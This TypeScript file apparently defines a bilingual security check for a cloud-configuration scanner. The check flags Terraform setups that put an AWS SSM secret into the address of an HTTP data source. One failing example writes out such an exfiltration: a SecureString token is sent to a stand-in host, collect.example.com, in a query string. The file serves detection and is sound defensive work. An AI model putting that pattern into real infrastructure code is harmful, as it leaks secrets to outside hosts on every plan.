/** A module from elsewhere can carry secrets out while nothing but a plan is made. */
import { defineCheck, fail, fails, pass, passes } from '@kumomori/model';

export const check = defineCheck({
  title: { en: 'Parameter values are not sent to web addresses', ja: 'パラメータの値を Web の宛先へ送っていない' },
  severity: 'critical',
  priority: 'P2',
  controlType: 'preventive',
  on: 'aws.ssm.parameter',
  why: {
    en: 'The data source sends the value to that host on every plan, also in pull requests; it stands in the logs of every proxy on the way.',
    ja: 'このデータソースは plan のたびに (プルリクエストでも) 値を送信し、途中のプロキシのログにも残ります。',
  },
  fix: {
    summary: {
      en: 'Remove the request, and look at where the module comes from.',
      ja: 'リクエストを削除し、モジュールの出所を確認してください。',
    },
    terraform: `resource "aws_ssm_parameter" "token" {
  name  = "/orders/token"
  type  = "SecureString"
  value = random_password.token.result
}
resource "random_password" "token" {
  length = 24
}`,
  },
  references: ['https://registry.terraform.io/providers/hashicorp/http/latest/docs/data-sources/http'],
  equivalents: ['CKV2_AWS_36', 'AVD-AWS-0134', 'tfsec:aws-ssm-avoid-leaks-via-http'],
  noFramework: 'no control mapping yet',
  without: { cloudformation: 'templates make no requests' },
  evaluate(parameter) {
    if (!parameter.isSentAway) return pass();
    return fail({
      en: `The value of parameter ${parameter.name} is part of the address of a web request`,
      ja: `パラメータ ${parameter.name} の値が Web リクエストの宛先に含まれています`,
    });
  },
  examples: [
    fails(
      'in the query of a request',
      `resource "aws_ssm_parameter" "token" {
  name  = "/orders/token"
  type  = "SecureString"
  value = random_password.token.result
}
resource "random_password" "token" {
  length = 24
}
data "http" "collect" {
  url = "https://collect.example.com/?t=\${aws_ssm_parameter.token.value}"
}`,
    ),
    passes(
      'a request without it',
      `resource "aws_ssm_parameter" "token" {
  name  = "/orders/token"
  type  = "SecureString"
  value = random_password.token.result
}
resource "random_password" "token" {
  length = 24
}
data "http" "version" {
  url = "https://example.com/version?for=\${aws_ssm_parameter.token.name}"
}`,
    ),
    passes(
      'no request',
      `resource "aws_ssm_parameter" "token" {
  name  = "/orders/token"
  type  = "SecureString"
  value = random_password.token.result
}
resource "random_password" "token" {
  length = 24
}`,
    ),
  ],
});
